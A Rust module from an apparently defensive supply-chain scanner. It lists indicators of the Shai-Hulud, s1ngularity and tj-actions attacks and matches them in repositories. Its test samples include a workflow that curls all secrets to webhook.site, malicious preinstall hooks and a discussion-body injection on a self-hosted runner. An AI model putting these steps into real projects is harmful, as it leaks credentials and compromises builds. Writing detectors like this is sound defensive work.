//! What known attacks left behind: names so specific that nothing else has them, and names that only point there.

use std::ops::Range;

use super::Found;
use super::file::{File, Language};
use super::report::{Findings, escape};
use super::rule::{Level, Rule};

pub(super) static KNOWN_INDICATOR: Rule = Rule {
    id: "known_indicator",
    title: "trace of a known attack",
    level: Level::Certain,
    summary: "what a known attack on the supply chain leaves in a repository",
    explain: "A name or a combination that one attack, with date and source in the message, is known by. Texts about it are left alone.",
    next_step: "Treat every credential that the repository or its workflows could reach as stolen, then clean up.",
    samples: &[
        &[(
            "package.json",
            "{\"scripts\": {\"preinstall\": \"node setup_{}bun.js\"}}",
        )],
        &[(
            ".github/workflows/discussion.yaml",
            "on: discussion\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.{}discussion.body }}\n",
        )],
        &[(
            ".github/workflows/shai-hulud-workflow.yml",
            "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d '${{ to{}JSON(secrets) }}' https://webhook.site/x\n",
        )],
        &[(".github/workflows/a.yml", "    runs-on: [SHA1{}HULUD]")],
        &[(
            ".github/workflows/a.yml",
            "  - uses: tj-actions/changed-files@0e58ed{}8671d6b60d0890c21b07f8835ace038e67",
        )],
    ],
    decoys: &[
        &[(
            "README.md",
            "The worm runs `node setup_bun.js` on runner SHA1HULUD.",
        )],
        &[(
            "package.json",
            "{\"scripts\": {\"preinstall\": \"node setup.js\"}}",
        )],
        &[(
            ".github/workflows/a.yml",
            "  - uses: tj-actions/changed-files@2f7c5bfce28377bc069a65ba478de0a74aa0ca32",
        )],
    ],
};

pub(super) static SUSPECT_INDICATOR: Rule = Rule {
    id: "suspect_indicator",
    title: "name that a known attack used",
    level: Level::Heuristic,
    summary: "a name that a known attack on the supply chain used, and others may use",
    explain: "The name alone proves nothing: other packages have a `bundle.js`, too.",
    next_step: "Look at what the file does, and who added it.",
    samples: &[
        &[(
            "package.json",
            "{\"scripts\": {\"postinstall\": \"node bundle.{}js\"}}",
        )],
        &[(".github/workflows/shai-hulud.yaml", "on: push\n")],
    ],
    decoys: &[
        &[(
            "package.json",
            "{\"scripts\": {\"build\": \"node bundle.js\"}}",
        )],
        &[("docs/shai-hulud.md", "a text")],
    ],
};

/// A trace, and where it is known from.
struct Indicator {
    rule: &'static Rule,
    place: Place,
    /// Literals in lower case, all of which are in the file; the first is where the finding is.
    has: &'static [&'static str],
    attack: &'static str,
    /// When it was published, and by whom.
    date: &'static str,
    source: &'static str,
}

enum Place {
    /// A lifecycle script of a `package.json` has this word, and it is all of a command's arguments.
    Hook(&'static str),
    /// A workflow of that name: what it begins with.
    Workflow(&'static str),
    /// Workflows, scripts and code.
    Run,
}

const FIRST: &str = "Shai-Hulud worm";
const SECOND: &str = "Shai-Hulud worm, second wave";
const MINI: &str = "Mini Shai-Hulud worm";
const CISA: &str = "CISA alert on the npm ecosystem";

#[rustfmt::skip]
const INDICATORS: &[Indicator] = &[
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Hook("setup_bun.js"), has: &[], attack: SECOND, date: "2025-11-24", source: "GitLab and Wiz advisories" },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Hook("bun_environment.js"), has: &[], attack: SECOND, date: "2025-11-24", source: "GitLab and Wiz advisories" },
    Indicator { rule: &SUSPECT_INDICATOR, place: Place::Hook("bundle.js"), has: &[], attack: FIRST, date: "2025-09-15", source: CISA },
    Indicator { rule: &SUSPECT_INDICATOR, place: Place::Hook("setup.mjs"), has: &[], attack: MINI, date: "2026-04-29", source: "advisories on the SAP CAP packages" },
    Indicator { rule: &SUSPECT_INDICATOR, place: Place::Hook("execution.js"), has: &[], attack: MINI, date: "2026-04-29", source: "advisories on the SAP CAP packages" },
    Indicator { rule: &SUSPECT_INDICATOR, place: Place::Hook("router_init.js"), has: &[], attack: MINI, date: "2026-05-11", source: "CVE-2026-45321" },
    Indicator { rule: &SUSPECT_INDICATOR, place: Place::Hook("telemetry.js"), has: &[], attack: "s1ngularity", date: "2025-08-26", source: "advisory on Nx" },
    Indicator { rule: &SUSPECT_INDICATOR, place: Place::Workflow("shai-hulud"), has: &[], attack: FIRST, date: "2025-09-15", source: CISA },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Workflow("shai-hulud"), has: &["tojson(secrets"], attack: FIRST, date: "2025-09-15", source: CISA },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Workflow("discussion.y"), has: &["github.event.discussion.body", "runs-on: self-hosted"], attack: SECOND, date: "2025-11-24", source: "GitLab and Wiz advisories" },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Workflow("formatter_"), has: &["tojson(secrets", "upload-artifact"], attack: SECOND, date: "2025-11-24", source: "GitLab and Wiz advisories" },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Run, has: &["sha1hulud"], attack: SECOND, date: "2025-11-24", source: "GitLab and Wiz advisories" },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Run, has: &["a mini shai-hulud has appeared"], attack: MINI, date: "2026-04-29", source: "advisories on the SAP CAP packages" },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Run, has: &["s1ngularity-repository"], attack: "s1ngularity", date: "2025-08-26", source: "advisory on Nx" },
    Indicator { rule: &KNOWN_INDICATOR, place: Place::Run, has: &["tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67"], attack: "tj-actions/changed-files", date: "2025-03-14", source: "CVE-2025-30066" },
];

/// What the automaton looks for.
pub(super) fn literals() -> impl Iterator<Item = &'static str> {
    let run = INDICATORS
        .iter()
        .filter(|one| matches!(one.place, Place::Run));
    run.filter_map(|one| one.has.first().copied())
}

/// A literal of [`literals`] is in the file.
pub(super) fn search(file: &File<'_>, text: &[u8], found: &mut Findings) {
    let texts = matches!(file.language, Language::Markdown | Language::Prose);
    if texts || file.is_specimen() {
        return;
    }
    for one in INDICATORS
        .iter()
        .filter(|one| matches!(one.place, Place::Run))
    {
        in_text(one, text, found);
    }
}

/// Workflows by their names.
pub(super) fn search_path(file: &File<'_>, text: &[u8], found: &mut Findings) {
    if !file.is_below(".github/workflows") || file.language != Language::Yaml {
        return;
    }
    for one in INDICATORS {
        if let Place::Workflow(name) = one.place
            && file.name().starts_with(name)
        {
            in_text(one, text, found);
        }
    }
}

/// A lifecycle script: `line`, at `range`.
pub(super) fn in_hook(file: &File<'_>, line: &str, range: Range<usize>, found: &mut Findings) {
    if file.is_specimen() {
        return;
    }
    let words: Vec<&str> = line.split_ascii_whitespace().collect();
    for one in INDICATORS {
        let Place::Hook(name) = one.place else {
            continue;
        };
        let runs = |pair: &[&str]| {
            matches!(pair[0], "node" | "bun") && pair[1].trim_start_matches("./") == name
                || pair[0] == "run" && pair[1].trim_start_matches("./") == name
        };
        if words.len() <= 4 && words.windows(2).any(runs) {
            push(
                one,
                range.clone(),
                &format!("a lifecycle script runs {name}"),
                found,
            );
        }
    }
}

fn in_text(one: &Indicator, text: &[u8], found: &mut Findings) {
    let lower = text.to_ascii_lowercase();
    let at: Option<Vec<usize>> = one
        .has
        .iter()
        .map(|part| memchr::memmem::find(&lower, part.as_bytes()))
        .collect();
    let Some(at) = at else { return };
    let start = at.first().copied().unwrap_or(0);
    let end = one.has.first().map_or(0, |part| start + part.len());
    let shown = String::from_utf8_lossy(text.get(start..end).unwrap_or_default()).into_owned();
    let what = if shown.is_empty() {
        String::from("the file's name")
    } else {
        escape(&shown)
    };
    push(one, start..end, &what, found);
}

fn push(one: &Indicator, range: Range<usize>, what: &str, found: &mut Findings) {
    found.push(Found {
        rule: one.rule,
        range,
        message: format!(
            "{}: {what} ({}, {}, {})",
            one.rule.summary, one.attack, one.date, one.source
        ),
        hidden: None,
    });
}
